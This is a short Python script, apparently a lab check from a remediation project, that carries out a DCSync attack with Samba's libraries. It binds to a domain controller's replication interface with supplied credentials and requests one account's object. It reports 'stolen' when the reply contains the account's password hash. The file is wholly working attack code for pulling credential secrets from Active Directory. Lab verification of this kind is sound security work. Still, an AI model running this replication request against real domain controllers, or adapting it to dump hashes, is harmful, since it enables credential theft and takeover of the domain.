# Copyright: (c) 2026, care.remediation contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
"""DCSync with Samba's own libraries, run on the lab's domain controller: ask by replication for one account's secrets.

    python3 steal.py USER PASSWORD DN        says "stolen" and exits 0, or says why not and exits 1
"""

from __future__ import annotations

import sys

from samba.credentials import Credentials
from samba.dcerpc import drsuapi, misc
from samba.drs_utils import drs_DsBind
from samba.param import LoadParm


def steal(user: str, password: str, dn: str) -> bool:
    """Whether the answer to a request for the object holds its password hash."""
    lp = LoadParm()
    lp.load_default()
    credentials = Credentials()
    credentials.guess(lp)
    credentials.set_username(user)
    credentials.set_password(password)
    binding = f"ncacn_ip_tcp:{lp.get('netbios name').lower()}.{lp.get('realm').lower()}[seal]"
    drs = drsuapi.drsuapi(binding, lp, credentials)
    handle, _features = drs_DsBind(drs)
    request = drsuapi.DsGetNCChangesRequest8()
    request.destination_dsa_guid = misc.GUID("6d1b7c1e-0000-4111-8222-333344445555")
    request.source_dsa_invocation_id = misc.GUID("00000000-0000-0000-0000-000000000000")
    request.naming_context = drsuapi.DsReplicaObjectIdentifier()
    request.naming_context.dn = dn
    request.highwatermark = drsuapi.DsReplicaHighWaterMark()
    request.replica_flags = drsuapi.DRSUAPI_DRS_INIT_SYNC | drsuapi.DRSUAPI_DRS_WRIT_REP
    request.max_object_count = 1
    request.max_ndr_size = 402116
    request.extended_op = drsuapi.DRSUAPI_EXOP_REPL_OBJ
    _level, answer = drs.DsGetNCChanges(handle, 8, request)
    if answer.first_object is None:
        return False
    attributes = answer.first_object.object.attribute_ctr.attributes
    return any(a.attid == drsuapi.DRSUAPI_ATTID_unicodePwd and a.value_ctr.num_values for a in attributes)


if __name__ == "__main__":
    try:
        done = steal(*sys.argv[1:4])
    except Exception as error:
        print(error)
        sys.exit(1)
    print("stolen" if done else "no password hash in the answer")
    sys.exit(0 if done else 1)
